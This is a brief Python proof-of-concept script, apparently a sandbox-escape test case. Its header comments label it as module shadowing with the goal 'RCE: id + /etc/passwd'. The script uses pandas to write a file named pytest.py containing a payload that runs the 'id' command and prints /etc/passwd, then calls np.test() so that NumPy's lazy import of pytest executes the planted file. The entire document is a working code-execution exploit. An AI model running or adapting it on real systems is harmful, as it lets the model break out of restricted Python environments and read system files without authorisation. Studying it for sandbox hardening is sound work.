# source: numpy/_pytesttester.py (np.test -> import pytest); sys.path[0] shadowing
# family: plant module via to_csv + lazy import (np.test -> pytest)
# goal: RCE: id + /etc/passwd
import numpy as np
import pandas as pd
payload = "import os;print(os.popen('id').read());print(open('/etc/passwd').read())"
pd.DataFrame({"c": [payload]}).to_csv("pytest.py", index=False, header=False)
np.test()
